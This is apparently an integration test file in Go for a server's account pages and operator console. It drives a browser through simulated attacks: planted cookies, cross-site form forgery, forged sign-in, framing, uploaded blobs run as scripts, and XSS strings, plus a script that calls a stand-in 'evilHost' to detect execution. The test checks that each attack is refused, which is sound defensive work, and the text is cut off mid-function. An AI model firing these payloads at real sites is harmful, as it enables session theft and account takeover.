//go:build interop

package interop

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"html"
	"io"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"

	adminapi "portico/api/atproto/admin"
	serverapi "portico/api/atproto/server"
	operatorapi "portico/api/portico/operator"
)

// TestPagesWithstand does to the pages in Chromium what somebody would try who has an account
// here, a handle's host of the same site, and another site. Alice and the operator have
// signed in with the browser. Each attempt is one that works where nothing stops it, and that
// is shown where it is not plain.
func TestPagesWithstand(t *testing.T) {
	s := newStage(t, "PORTICO_CONSOLE=public")
	a := &attack{stage: s, alice: s.member("alice", "alice@example.com", "The app of Alice")}
	a.mallory = s.member("mallory", "mallory@example.com", markup("agent"))
	if _, err := a.alice.server.CreateAppPassword(t.Context(), &serverapi.CreateAppPasswordInput{Name: "Alice's app"}); err != nil {
		t.Fatal(err)
	}
	waiting := s.member("waiting", "never@example.com", "") // for a mail that is not taken
	if err := waiting.server.RequestEmailConfirmation(t.Context()); err != nil {
		t.Fatal(err)
	}
	if _, err := (&serverapi.Client{Client: s.admin.Client}).CreateInviteCodes(t.Context(), &serverapi.CreateInviteCodesInput{CodeCount: 2, UseCount: 1}); err != nil {
		t.Fatal(err)
	}
	for _, part := range []struct {
		name string
		do   func(*attack)
	}{
		{"other hosts", (*attack).otherHosts},
		{"planted cookies", (*attack).plantedCookies},
		{"forged forms", (*attack).forgedForms},
		{"forged sign-in", (*attack).forgedSignIn},
		{"frames", (*attack).frames},
		{"blobs", (*attack).blobs},
		{"markup", (*attack).markup},
		{"passwords", (*attack).passwords},
	} {
		if !t.Run(part.name, func(t *testing.T) {
			s.t, s.browser.t = t, t
			part.do(a)
			a.everyAnswer()
			if len(s.dialogs) > 0 {
				t.Errorf("a page said %q", s.dialogs)
			}
			if hits := s.pwned(); len(hits) > 0 {
				t.Errorf("scripts ran: %q", hits)
			}
		}) {
			break
		}
		s.t, s.browser.t = t, t
	}
}

// An attack is Mallory's on Alice and the operator.
type attack struct {
	*stage
	alice, mallory *owner
	urls           []string // of all pages
}

const publicConsole = "https://" + stageHost + "/console"

// isPage says whether a path is of the pages.
func isPage(path string) bool {
	for _, first := range []string{"/account", "/invite", "/console"} {
		if path == first || strings.HasPrefix(path, first+"/") {
			return true
		}
	}
	return false
}

// everyAnswer looks at what all answers of the server have to have in common.
func (a *attack) everyAnswer() {
	for _, one := range a.took() {
		if one.header.Get("WWW-Authenticate") != "" {
			a.t.Errorf("%v has WWW-Authenticate %q", one, one.header.Get("WWW-Authenticate"))
		}
		if !isPage(one.path) {
			continue
		}
		for name := range one.header {
			if strings.HasPrefix(name, "Access-Control-") {
				a.t.Errorf("%v has %s", one, name)
			}
		}
		if got := one.header.Get("Cross-Origin-Resource-Policy"); got != "same-origin" && one.status != http.StatusNotFound {
			a.t.Errorf("%v has Cross-Origin-Resource-Policy %q", one, got)
		}
	}
}

// all signs Alice and the operator in.
func (a *attack) all() {
	a.t.Helper()
	a.forgetCookies()
	a.signIn("alice")
	a.open(publicConsole)
	a.submit(`form[action="/console/sign-in"]`, "password", stagePassword)
	a.says("Overview")
}

// otherHosts asks for the pages by names that lead to the server and are not its own: those of
// handles, and those that somebody had lead here.
func (a *attack) otherHosts() {
	a.front.LeadTo("alice."+stageHost, a.watched(a.server.URL, false))
	_, port, _ := strings.Cut(strings.TrimPrefix(a.console, "http://"), ":")
	for _, origin := range []string{"https://alice." + stageHost, "https://" + boundHost} {
		for _, path := range []string{"/account", "/account/sessions", "/invite/a-b", "/console", "/console/accounts"} {
			a.took()
			a.open(origin + path)
			if got := a.awaits(origin+path, 1, func(one seen) bool { return one.path == path }); got[0].status != http.StatusNotFound || got[0].header.Get("Set-Cookie") != "" {
				a.t.Errorf("%v, with cookie %q", got[0], got[0].header.Get("Set-Cookie"))
			}
		}
	}
	// The console on loopback, by a name that somebody had lead to loopback.
	for _, host := range []string{boundHost, stageHost, "alice." + stageHost} {
		a.took()
		a.open("http://" + host + ":" + port + "/console")
		if got := a.awaits(host, 1, func(one seen) bool { return one.path == "/console" }); got[0].status != http.StatusNotFound {
			a.t.Errorf("the console on loopback, by another name: %v", got[0])
		}
	}
	a.took()
	a.open(a.console + "/console")
	if got := a.awaits("console", 1, func(one seen) bool { return one.path == "/console/sign-in" }); got[0].status != http.StatusOK {
		a.t.Errorf("the console on loopback: %v", got[0])
	}
}

// plantedCookies tries to have Alice sign in with a cookie that Mallory knows.
func (a *attack) plantedCookies() {
	const name = "__Host-portico-account"
	known, _ := a.visitor()
	// From a handle's host, which may set cookies for all of the site.
	a.put(handleHost, "/plant", "text/html", "<title>plant</title>")
	a.mu.Lock()
	a.pages[handleHost+"/plant"] = func(w http.ResponseWriter, _ *http.Request) {
		for _, line := range []string{
			name + "=" + known + "; Domain=" + stageHost + "; Path=/; Secure; HttpOnly",
			name + "=" + known + "; Domain=" + stageHost + "; Path=/account; Secure",
			strings.ToUpper(name) + "=" + known + "; Domain=" + stageHost + "; Path=/; Secure",
			"=" + name + "=" + known + "; Domain=" + stageHost + "; Path=/; Secure",
			" \t" + name + "=" + known + "; Domain=" + stageHost + "; Path=/; Secure",
			"portico-account=" + known + "; Domain=" + stageHost + "; Path=/; Secure",
			"control=arrived; Domain=" + stageHost + "; Path=/; Secure",
		} {
			w.Header()["Set-Cookie"] = append(w.Header()["Set-Cookie"], line)
		}
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, `<script>for (const c of ['`+name+`', '=`+name+`']) document.cookie = c + '=`+known+`; Domain=`+stageHost+`; Path=/; Secure'</script>`)
	}
	a.mu.Unlock()
	a.forgetCookies()
	a.open("https://" + handleHost + "/plant")
	if list := a.cookies("https://" + stageHost); !slices.ContainsFunc(list, func(c cookie) bool { return c.Name == "control" }) {
		a.t.Errorf("the attempt does not work: %+v", list)
	} else if slices.ContainsFunc(list, func(c cookie) bool { return strings.HasPrefix(c.Name+"="+c.Value, name) }) {
		a.t.Errorf("a cookie was planted: %+v", list)
	}
	a.signIn("alice")
	first := a.ownCookie(name)

	// By somebody who had the browser in hand.
	a.forgetCookies()
	a.call("Network.setCookie", map[string]any{"url": "https://" + stageHost, "name": name, "value": known, "path": "/", "secure": true, "httpOnly": true})
	a.signIn("alice")
	second := a.ownCookie(name)
	if second.Value == known || second.Value == first.Value {
		a.t.Error("the cookie of the session is one that was there before")
	}
	if got := a.get("/account", name+"="+known); !strings.Contains(got, `id="sign-in"`) || strings.Contains(got, "alice") {
		a.t.Errorf("with the planted cookie:\n%s", got)
	}
	if got := a.get("/account", name+"="+second.Value); !strings.Contains(got, "@alice."+stageHost) {
		a.t.Errorf("with the cookie of the session:\n%s", got)
	}

	// Signing out ends it for whoever has a copy.
	a.submit("form.out")
	if got := a.get("/account", name+"="+second.Value); !strings.Contains(got, `id="sign-in"`) {
		a.t.Errorf("with the cookie of a session that was ended:\n%s", got)
	}

	// The console's.
	a.forgetCookies()
	a.open(publicConsole)
	before := a.ownCookie("__Host-portico-console")
	a.submit(`form[action="/console/sign-in"]`, "password", stagePassword)
	after := a.ownCookie("__Host-portico-console")
	if before.Value == after.Value || after.SameSite != "Strict" || second.SameSite != "Lax" {
		a.t.Errorf("cookies of the console %+v, %+v, of an account %+v", before, after, second)
	}
	if script := a.run("document.cookie"); script != "" {
		a.t.Errorf("scripts see %q", script)
	}
}

// ownCookie is the cookie of that name, which has to be as it should.
func (a *attack) ownCookie(name string) cookie {
	a.t.Helper()
	for _, c := range a.cookies("https://" + stageHost) {
		if c.Name == name {
			if !c.HTTPOnly || !c.Secure || !c.Session || c.Domain != stageHost || c.Path != "/" || len(c.Value) != 43 {
				a.t.Errorf("cookie %+v", c)
			}
			return c
		}
	}
	a.t.Fatalf("there is no cookie %s", name)
	return cookie{}
}

// get is a page as it is for whoever has those cookies.
func (a *attack) get(path, cookies string) string {
	a.t.Helper()
	client, err := a.front.Client()
	if err != nil {
		a.t.Fatal(err)
	}
	r, err := http.NewRequestWithContext(a.t.Context(), http.MethodGet, "https://"+stageHost+path, nil)
	if err != nil {
		a.t.Fatal(err)
	}
	r.Header.Set("Cookie", cookies)
	resp, err := client.Do(r)
	if err != nil {
		a.t.Fatal(err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		a.t.Fatal(err)
	}
	return string(body)
}

var formToken = regexp.MustCompile(`name="token" value="([\w-]+)"`)

// visitor is a cookie that Mallory was given for himself, and the token of forms with it.
func (a *attack) visitor() (cookie, token string) {
	a.t.Helper()
	client, err := a.front.Client()
	if err != nil {
		a.t.Fatal(err)
	}
	resp, err := client.Get(accountPages)
	if err != nil {
		a.t.Fatal(err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		a.t.Fatal(err)
	}
	found := formToken.FindSubmatch(body)
	if found == nil || len(resp.Cookies()) != 1 {
		a.t.Fatalf("%s, %v:\n%s", resp.Status, resp.Cookies(), body)
	}
	return resp.Cookies()[0].Value, string(found[1])
}

// walked goes to all pages that there are links to, and returns their URLs. It calls at on
// each.
func (a *attack) walked(at func(url string)) (urls []string) {
	a.t.Helper()
	next := []string{accountPages, publicConsole}
	known := map[string]bool{}
	for len(next) > 0 {
		u := next[0]
		next = next[1:]
		if known[shape(u)] {
			continue
		}
		known[shape(u)] = true
		a.open(u)
		urls = append(urls, u)
		at(u)
		var links []string
		if err := json.Unmarshal([]byte(a.run(`JSON.stringify([...document.links].map(a => a.href))`)), &links); err != nil {
			a.t.Fatal(err)
		}
		for _, link := range links {
			if to, err := url.Parse(link); err == nil && to.Host == stageHost && isPage(to.Path) {
				to.Fragment = ""
				next = append(next, to.String())
			}
		}
	}
	return urls
}

var numbers = regexp.MustCompile(`\d+`)

// shape is the same for pages that differ in whom they are about, or which part of a list
// they show.
func shape(u string) string {
	to, err := url.Parse(u)
	if err != nil {
		return u
	}
	var names []string
	for name := range to.Query() {
		names = append(names, name)
	}
	slices.Sort(names)
	path := regexp.MustCompile(`did(:|%3A)plc(:|%3A)\w+`).ReplaceAllString(to.EscapedPath(), "DID")
	return numbers.ReplaceAllString(path, "0") + "?" + strings.Join(names, "&")
}

// laterForms are the forms that come only after others were sent.
var laterForms = []form{
	{Action: accountPages + "/email/confirm", Fields: [][2]string{{"code", "AAAAA-AAAAA"}}},
	{Action: accountPages + "/email/update", Fields: [][2]string{{"email", "mallory2@example.com"}}},
	{Action: accountPages + "/email/factor-on"},
	{Action: accountPages + "/email/factor-request"},
	{Action: accountPages + "/email/factor-off", Fields: [][2]string{{"code", "AAAAA-AAAAA"}}},
	{Action: accountPages + "/activate"},
	{Action: accountPages + "/delete", Fields: [][2]string{{"code", "AAAAA-AAAAA"}, {"password", ownersPassword}}},
	{Action: accountPages + "/password/reset", Fields: [][2]string{{"code", "AAAAA-AAAAA"}, {"password", "mallory's now"}}},
	{Action: accountPages + "/data/blob", Fields: [][2]string{{"cid", "bafkreibm6jg3ux5qumhcn2b3flc3tyu6dmlb4xa7u5bf44yegnrjhc4yeq"}}},
	{Action: accountPages + "/sign-in", Fields: [][2]string{{"identifier", "mallory." + stageHost}, {"password", ownersPassword}}},
	{Action: accountPages + "/security/app-on", Fields: [][2]string{{"secret", "AAAA"}, {"code", "000000"}}},
	{Action: accountPages + "/security/app-off"},
	{Action: accountPages + "/security/codes"},
	{Action: accountPages + "/security/passkey-add", Fields: [][2]string{{"name", "Mallory's"}, {"made-state", "AAAA"}, {"made-answer", "{}"}}},
	{Action: accountPages + "/security/passkey-rename", Fields: [][2]string{{"passkey", "AAAA"}, {"name", "Mallory's"}}},
	{Action: accountPages + "/security/passkey-remove", Fields: [][2]string{{"passkey", "AAAA"}}},
	{Action: accountPages + "/apps/end", Fields: [][2]string{{"session", "AAAA"}}},
	{Action: accountPages + "/apps/forget", Fields: [][2]string{{"browser", "AAAA"}}},
	{Action: publicConsole + "/quarantine/approve", Fields: [][2]string{{"count", "100"}}},
	{Action: publicConsole + "/quarantine/delete", Fields: [][2]string{{"count", "100"}}},
	{Action: publicConsole + "/budgets", Fields: [][2]string{{"who", "127.0.0.1"}}},
	{Action: publicConsole + "/sign-in", Fields: [][2]string{{"next", "/console"}, {"password", stagePassword}}},
}

// forgedForms sends every form of the pages from another site, and from a handle's host, in
// all ways in which a page can send something, with the very fields that the own page would
// send: as if the token had become known.
func (a *attack) forgedForms() {
	a.all()
	byAction := map[string]form{}
	tokens := map[string]string{} // by the first part of the path
	a.urls = a.walked(func(string) {
		for _, f := range a.forms() {
			byAction[f.Action] = f
			for _, field := range f.Fields {
				if field[0] == "token" {
					tokens[first(f.Action)] = field[1]
				}
			}
		}
	})
	later := slices.Clone(laterForms)
	for _, action := range []string{"restore", "activate", "disable-2fa", "enable-invites", "repair", "takedown", "delete"} {
		later = append(later, form{
			Action: publicConsole + "/accounts/" + a.alice.did.String() + "/" + action, Fields: [][2]string{{"typed", "alice." + stageHost}},
		})
	}
	for _, f := range later {
		if _, ok := byAction[f.Action]; !ok {
			f.Fields = append(slices.Clone(f.Fields), [2]string{"token", tokens[first(f.Action)]})
			byAction[f.Action] = f
		}
	}
	var forms []form
	for _, f := range byAction {
		forms = append(forms, f)
	}
	if len(forms) < 30 || tokens["account"] == "" || tokens["console"] == "" {
		a.t.Fatalf("%d forms, tokens %v", len(forms), tokens)
	}
	a.t.Logf("%d forms", len(forms))
	before := a.state()
	for _, from := range []struct {
		host          string
		cookies       bool // go along
		plain, silent bool
	}{
		{handleHost, true, false, false}, {evilHost, false, false, false},
		{handleHost, true, true, false}, {handleHost, true, true, true},
	} {
		a.mu.Lock()
		a.plain, a.silent = from.plain, from.silent
		a.mu.Unlock()
		a.took()
		each := 4 // requests for one form
		if from.plain {
			each = 1
		}
		a.open(a.put(from.host, "/forge", "text/html", forge(forms, each == 4)))
		isPost := func(one seen) bool { return one.verb == http.MethodPost && isPage(one.path) }
		got := a.awaits("forged forms", each*len(forms), isPost)
		withCookie := 0
		for _, one := range got {
			if one.status != http.StatusForbidden || one.origin != "https://"+from.host || one.header.Get("Set-Cookie") != "" {
				a.t.Errorf("plain %v, silent %v: %v", from.plain, from.silent, one)
			}
			if one.cookie {
				withCookie++
			}
		}
		if from.cookies != (withCookie == len(got)) || !from.cookies && withCookie > 0 {
			a.t.Errorf("%d of %d requests from %s had cookies", withCookie, len(got), from.host)
		}
		a.until("all answers", `window.__left === 0`)
		if read := a.run("window.__read"); read != "" {
			a.t.Errorf("the page read %q", read)
		}
		for _, one := range a.took() {
			if one.verb == http.MethodGet && isPage(one.path) && one.header.Get("Set-Cookie") != "" && one.cookie {
				a.t.Errorf("changes a cookie: %v", one)
			}
		}
	}
	a.mu.Lock()
	a.plain, a.silent = false, false
	a.mu.Unlock()
	if after := a.state(); after != before {
		a.t.Errorf("something changed:\n%s\n%s", before, after)
	}
	a.open(accountPages)
	a.says("@alice." + stageHost)
	a.open(publicConsole)
	a.says("Overview")
}

func first(action string) string {
	u, err := url.Parse(action)
	if err != nil {
		return ""
	}
	part, _, _ := strings.Cut(strings.TrimPrefix(u.Path, "/"), "/")
	return part
}

// forge is a page that sends forms by fetch. In all ways it sends them by fetch that wants to
// read the answer, by a form in a frame and as a beacon too, and asks for their addresses as
// pictures and ahead of time.
func forge(forms []form, inAllWays bool) string {
	list, _ := json.Marshal(forms) // of texts there is no error
	return `<!doctype html><title>forge</title><body><script>
window.__read = ''; window.__left = 0;
const forms = ` + string(list) + `, all = ` + fmt.Sprint(inAllWays) + `;
forms.forEach((f, i) => {
	const fields = () => { const p = new URLSearchParams(); for (const [name, value] of f.Fields) p.append(name, value); return p };
	for (const mode of all ? ['no-cors', 'cors'] : ['no-cors']) {
		window.__left++;
		fetch(f.Action, {method: 'POST', mode, credentials: 'include', body: fields()})
			.then(async a => { if (a.type !== 'opaque') window.__read += mode + ' ' + f.Action + ' ' + a.status + ' ' }, () => {}).finally(() => window.__left--);
	}
	if (!all) return;
	const frame = document.createElement('iframe'); frame.name = 'frame' + i; document.body.append(frame);
	const form = document.createElement('form'); form.method = 'post'; form.action = f.Action; form.target = frame.name;
	for (const [name, value] of f.Fields) { const e = document.createElement('input'); e.type = 'hidden'; e.name = name; e.value = value; form.append(e) }
	document.body.append(form); HTMLFormElement.prototype.submit.call(form);
	navigator.sendBeacon(f.Action, fields());
	new Image().src = f.Action + '?' + fields();
	const link = document.createElement('link'); link.rel = 'prefetch'; link.href = f.Action + '?' + fields() + '&x'; document.head.append(link);
});
</script>`
}

// state is what an attack would change.
func (a *attack) state() string {
	a.t.Helper()
	var state []any
	for _, o := range []*owner{a.alice, a.mallory} {
		session, err := o.server.GetSession(a.t.Context())
		if err != nil {
			a.t.Fatal(err)
		}
		passwords, err := o.server.ListAppPasswords(a.t.Context())
		if err != nil {
			a.t.Fatal(err)
		}
		log, err := a.operator.GetLog(a.t.Context(), &operatorapi.GetLogParams{DID: &o.did, Limit: 100})
		if err != nil {
			a.t.Fatal(err)
		}
		state = append(state, session, passwords, len(log.Entries))
	}
	domains, err := a.operator.ListDomains(a.t.Context())
	if err != nil {
		a.t.Fatal(err)
	}
	codes, err := a.admin.GetInviteCodes(a.t.Context(), &adminapi.GetInviteCodesParams{Sort: "recent", Limit: 100})
	if err != nil {
		a.t.Fatal(err)
	}
	mails, err := a.operator.ListMails(a.t.Context(), &operatorapi.ListMailsParams{Limit: 100})
	if err != nil {
		a.t.Fatal(err)
	}
	state = append(state, domains, codes, len(mails.Mails))
	text, err := json.Marshal(state)
	if err != nil {
		a.t.Fatal(err)
	}
	return string(text)
}

// forgedSignIn has Alice's browser sign in as Mallory, who would then see what she does, with
// a form that takes the whole window; and sign her out.
func (a *attack) forgedSignIn() {
	_, token := a.visitor()
	send := func(host, action string, fields ...string) {
		a.t.Helper()
		var inputs strings.Builder
		for i := 0; i < len(fields); i += 2 {
			fmt.Fprintf(&inputs, `<input type="hidden" name="%s" value="%s">`, fields[i], html.EscapeString(fields[i+1]))
		}
		page := a.put(host, "/send", "text/html", `<form method="post" action="`+action+`">`+inputs.String()+`</form><script>window.__before = true; document.forms[0].submit()</script>`)
		a.took()
		a.call("Page.navigate", map[string]any{"url": page})
		got := a.awaits(action, 1, func(one seen) bool { return one.verb == http.MethodPost })
		if got[0].status != http.StatusForbidden || got[0].header.Get("Set-Cookie") != "" {
			a.t.Errorf("%v sets %q", got[0], got[0].header["Set-Cookie"])
		}
		a.until("the answer", `location.host === '`+stageHost+`' && document.readyState === 'complete'`)
		a.says("so it was not done")
	}
	for _, host := range []string{handleHost, evilHost} {
		a.forgetCookies()
		send(host, accountPages+"/sign-in", "token", token, "identifier", "mallory."+stageHost, "password", ownersPassword)
		send(host, accountPages+"/password/request", "token", token, "email", "alice@example.com")
		send(host, publicConsole+"/sign-in", "token", token, "password", stagePassword)
		a.open(accountPages)
		if a.run(`String(!!document.querySelector('form#sign-in'))`) != "true" {
			a.t.Errorf("signed in:\n%s", a.text())
		}
		a.all()
		send(host, accountPages+"/sign-in", "token", token, "identifier", "mallory."+stageHost, "password", ownersPassword)
		send(host, accountPages+"/sign-out", "token", token)
		send(host, publicConsole+"/sign-out", "token", token)
		a.open(accountPages)
		a.says("@alice." + stageHost)
		a.open(publicConsole)
		a.says("Overview")
	}
}

// frames shows the pages inside of pages of three hosts, the server's own among them.
func (a *attack) frames() {
	a.all()
	urls := append(slices.Clone(a.urls), "https://"+stageHost+"/invite/a-b")
	var frames strings.Builder
	for _, u := range urls {
		fmt.Fprintf(&frames, `<iframe src="%s"></iframe>`, html.EscapeString(u))
	}
	for _, host := range []string{evilHost, handleHost, stageHost} {
		a.complaints = nil
		a.took()
		a.put(host, "/planted", "text/html", "<title>frames</title>"+frames.String()+`<iframe id="control" src="https://`+host+`/planted-control"></iframe>`)
		a.put(host, "/planted-control", "text/html", "<p>control</p>")
		a.open("https://" + host + "/planted")
		a.awaits("frames", len(urls), func(one seen) bool { return one.dest == "iframe" })
		// Chromium shows a page of its own in the place of one that may not be there, which no
		// page can look into.
		shown := a.run(`[...document.querySelectorAll('iframe')].filter(f => f.contentDocument && f.contentDocument.URL !== 'about:blank').map(f => f.contentDocument.URL).join(' ')`)
		if shown != "https://"+host+"/planted-control" {
			a.t.Errorf("in frames of %s are %s", host, shown)
		}
		a.untilComplains(len(urls), "in a frame", "frame-ancestors")
	}
}

// untilComplains waits until the browser has complained n times in one of those words.
func (a *attack) untilComplains(n int, words ...string) {
	a.t.Helper()
	for range 200 {
		found := 0
		for _, c := range a.complaints {
			if slices.ContainsFunc(words, func(w string) bool { return strings.Contains(c, w) }) {
				found++
			}
		}
		if found >= n {
			return
		}
		a.pause()
	}
	a.t.Errorf("the browser complained %d times: %q", len(a.complaints), a.complaints)
}

// ways is a page that takes what there is at four URLs for what would run, or be seen, in
// every way that a page has.
func ways(page, svg, script, style string) string {
	return `<!doctype html><title>ways</title><body>
<script src="` + script + `"></script><script type="module" src="` + script + `"></script>
<link rel="stylesheet" href="` + style + `"><style>@import url("` + style + `")</style>
<iframe src="` + page + `"></iframe><iframe src="` + svg + `"></iframe>
<object data="` + svg + `" type="image/svg+xml"></object><object data="` + page + `" type="text/html"></object>
<embed src="` + svg + `" type="image/svg+xml"><img src="` + svg + `">
<script>
window.__left = 5;
const done = () => window.__left--;
const script = '` + script + `';
import(script).then(done, done);
for (const make of [Worker, SharedWorker]) try { new make(script).onerror = () => {} } catch {}
navigator.serviceWorker.register(script, {scope: new URL('.', script).pathname}).then(done, done);
try { new AudioContext().audioWorklet.addModule(script).then(done, done) } catch { done() }
try { CSS.paintWorklet.addModule(script).then(done, done) } catch { done() }
fetch(script, {mode: 'no-cors'}).then(done, done);
</script>`
}

// blobs has the server give out what Mallory uploaded as pages, pictures, scripts and styles.
func (a *attack) blobs() {
	const style = "body{background:rgb(255,0,0)!important}"
	page := func(what string) string { return "<!doctype html><title>blob</title><body>" + markup(what) }
	svg := func(what string) string {
		return `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="` + html.EscapeString(tried(what)) + `"><script>` + html.EscapeString(tried(what)) + `</script></svg>`
	}
	script := func(what string) string {
		return `try{fetch('https://` + evilHost + `/pwned?` + what + `-'+self.constructor.name,{mode:'no-cors'})}catch(e){};self.__pwned=1`
	}
	// What nothing stops runs, in each way.
	a.open(a.put(evilHost, "/own/ways", "text/html", ways(
		a.put(evilHost, "/own/page", "text/html", page("page")), a.put(evilHost, "/own/svg", "image/svg+xml", svg("svg")),
		a.put(evilHost, "/own/script", "text/javascript", script("script")), a.put(evilHost, "/own/style", "text/css", style))))
	hits := map[string]bool{}
	wanted := []string{"page", "svg", "script-Window", "script-DedicatedWorkerGlobalScope", "script-SharedWorkerGlobalScope", "script-ServiceWorkerGlobalScope"}
	for range 200 {
		for _, hit := range a.pwned() {
			hits[hit] = true
		}
		if !slices.ContainsFunc(wanted, func(w string) bool { return !hits[w] }) {
			break
		}
		a.pause()
	}
	const background = `getComputedStyle(document.body).backgroundColor`
	if slices.ContainsFunc(wanted, func(w string) bool { return !hits[w] }) || a.run(background) != "rgb(255, 0, 0)" {
		a.t.Fatalf("the attempt does not work: %v, %s", hits, a.run(background))
	}
	a.open("about:blank")
	a.call("Storage.clearDataForOrigin", map[string]any{"origin": "https://" + evilHost, "storageTypes": "service_workers"})
	a.pwned()

	const access = "Authorization"
	upload := func(kind, body string) (url string) {
		a.t.Helper()
		answer := a.ask(a.t, "POST com.atproto.repo.uploadBlob", body, access, a.bearer(a.mallory), "Content-Type", kind)
		if answer.status != http.StatusOK {
			a.t.Fatalf("upload %s: %d %s", kind, answer.status, answer.body)
		}
		var out struct {
			Blob struct {
				Ref struct {
					Link string `json:"$link"`
				}
			}
		}
		a.result([]byte(answer.body), &out)
		record := `{"repo":"` + a.mallory.did.String() + `","collection":"com.example.holder","record":{"$type":"com.example.holder","file":` + answer.raw("blob") + `}}`
		if got := a.ask(a.t, "POST com.atproto.repo.createRecord", record, access, a.bearer(a.mallory)); got.status != http.StatusOK {
			a.t.Fatalf("record of %s: %d %s", kind, got.status, got.body)
		}
		return "https://" + stageHost + "/xrpc/com.atproto.sync.getBlob?did=" + a.mallory.did.String() + "&cid=" + out.Blob.Ref.Link
	}
	urls := []string{upload("text/html", page("blob page")), upload("image/svg+xml", svg("blob svg")), upload("text/javascript", script("blob-script")), upload("text/css", style)}

	a.all()
	const isBlob = "/xrpc/com.atproto.sync.getBlob"
	for host, refused := range map[string][]string{
		stageHost: {"script", "style", "worker", "sharedworker", "serviceworker", "audioworklet", "paintworklet", "iframe", "object", "embed"},
		evilHost:  {"script", "style", "audioworklet", "paintworklet", "iframe", "object", "embed"},
	} {
		a.took()
		a.open(a.put(host, "/planted-ways", "text/html", ways(urls[0], urls[1], urls[2], urls[3])))
		a.until("all attempts", `window.__left === 0`)
		for _, dest := range append(refused, "image") {
			want := http.StatusForbidden
			if dest == "image" {
				want = http.StatusOK
			}
			for _, one := range a.awaits(dest, 1, func(one seen) bool { return one.path == isBlob && one.dest == dest }) {
				if one.status != want {
					a.t.Errorf("on a page of %s: %v, want %d", host, one, want)
				}
			}
		}
		if got := a.run(background); got == "rgb(255, 0, 0)" {
			a.t.Errorf("a blob is a style on %s", host)
		}
		if got := a.run(`String(window.__pwned)`); got != "undefined" {
			a.t.Errorf("a blob ran as a script on %s", host)
		}
	}
	if got := a.run(`typeof navigator.serviceWorker`); got == "object" {
		a.open("https://" + stageHost + "/planted-ways")
		a.until("an answer", `navigator.serviceWorker.getRegistrations().then(l => window.__workers = l.length), window.__workers !== undefined`)
		a.until("no worker", `window.__workers === 0`)
	}
	// Opened by itself, it is nothing that runs either.
	for _, u := range urls {
		a.open("about:blank")
		a.took()
		a.call("Page.navigate", map[string]any{"url": u})
		got := a.awaits("a blob", 1, func(one seen) bool { return one.path == isBlob })
		a.until("the blob", `document.readyState === 'complete'`)
		if csp := got[0].header.Get("Content-Security-Policy"); got[0].status != http.StatusOK || !strings.Contains(csp, "sandbox") || !strings.Contains(csp, "default-src 'none'") {
			a.t.Errorf("%v has the policy %q", got[0], csp)
		}
		if got := a.run(`String(window.__pwned)`); got != "undefined" {
			a.t.Errorf("a blob ran: %s", u)
		}
	}
	a.open(accountPages)
	a.says("@alice." + stageHost)
}

// pause lets the browser go on for a moment, and tell of it.
func (a *attack) pause() {
	a.call("Runtime.evaluate", map[string]any{"expression": "new Promise(r => setTimeout(r, 20))", "awaitPromise": true})
}

func (a *attack) bearer(o *owner) string {
	a.t.Helper()
	session := a.ask(a.t, "POST com.atproto.server.createSession", `{"identifier":"`+o.did.String()+`","password":"`+ownersPassword+`"}`)
	if session.status != http.StatusOK {
		a.t.Fatalf("sign in: %d %s", session.status, session.body)
	}
	return "Bearer " + session.text("accessJwt")
}

// short is markup that fits wherever little is taken.
const short = `"'><script>top.__pwned=1</script><img src=x onerror=top.__pwned=1>`

// markup has texts on the pages that run if they are taken for HTML: what strangers choose,
// and what stands in URLs.
func (a *attack) markup() {
	ctx := a.t.Context()
	alice := a.alice.did
	if got := a.ask(a.t, "POST com.atproto.server.createAccount", `{"handle":`+js(short+"."+stageHost)+`,"email":"x@example.com","password":"`+ownersPassword+`"}`); got.status != http.StatusBadRequest {
		a.t.Errorf("a handle with markup: %d %s", got.status, got.body)
	}
	for i, email := range []string{`"<img/src=x/onerror=top.__pwned=1>"@never.example`, `<img/src=x/onerror=top.__pwned=1>@never.example`, `'onfocus='top.__pwned=1@never.example`} {
		got := a.ask(a.t, "POST com.atproto.server.createAccount", fmt.Sprintf(`{"handle":"marked%d.%s","email":%s,"password":"%s"}`, i, stageHost, js(email), ownersPassword))
		want := http.StatusBadRequest
		if !strings.Contains(email, "<") {
			want = http.StatusOK
		}
		if got.status != want {
			a.t.Errorf("sign-up with %s: %d %s", email, got.status, got.body)
		}
		if got.status == http.StatusOK {
			a.ask(a.t, "POST com.atproto.server.requestEmailConfirmation", "", "Authorization", "Bearer "+got.text("accessJwt"))
		}
	}
	a.ask(a.t, "POST com.atproto.server.createSession", `{"identifier":"alice.`+stageHost+`","password":"`+ownersPassword+`"}`, "User-Agent", short)
	a.ask(a.t, "POST com.atproto.server.createSession", `{"identifier":`+js(short)+`,"password":"`+ownersPassword+`"}`, "User-Agent", short)
	a.ask(a.t, "POST com.atproto.server.createSession", `{"identifier":"alice.`+stageHost+`","password":"wrong"}`, "User-Agent", short)
	if _, err := a.alice.server.CreateAppPassword(ctx, &serverapi.CreateAppPasswordInput{Name: short}); err != nil {
		a.t.Fatal(err)
	}
	blob := a.ask(a.t, "POST com.atproto.repo.uploadBlob", "anything", "Authorization", a.bearer(a.alice), "Content-Type", `text/html;x="`+strings.ReplaceAll(short, `"`, "")+`"`)
	if blob.status != http.StatusOK || strings.Contains(blob.body, "pwned") {
		a.t.Errorf("blob: %d %s", blob.status, blob.body)
	}
	if _, err := a.admin.UpdateSubjectStatus(ctx, &adminapi.UpdateSubjectStatusInput{
		Subject: adminapi.NewUpdateSubjectStatusInputSubject(&adminapi.RepoRef{DID: a.mallory.did}), Takedown: &adminapi.StatusAttr{Applied: true, Ref: new(short)},
	}); err != nil {
		a.t.Fatal(err)
	}
	a.all()
	shown := map[string]bool{}
	clean := func(u string) {
		a.t.Helper()
		if got := a.run(`String(window.__pwned) + ' ' + document.querySelectorAll('main img, iframe, object, embed, base, [onerror], [onload], [onfocus]').length + ' ' + [...document.links].filter(a => !/^(https?|mailto):/.test(a.href)).length`); got != "undefined 0 0" {
			a.t.Errorf("%s: %s", u, got)
		}
		if strings.Contains(a.text()+a.run(`[...document.querySelectorAll('input')].map(e => e.value).join()`), "top.__pwned=1") {
			shown[shape(u)] = true
		}
	}
	a.complaints = nil
	a.walked(clean)
	a.open(publicConsole + "/accounts/" + a.mallory.did.String())
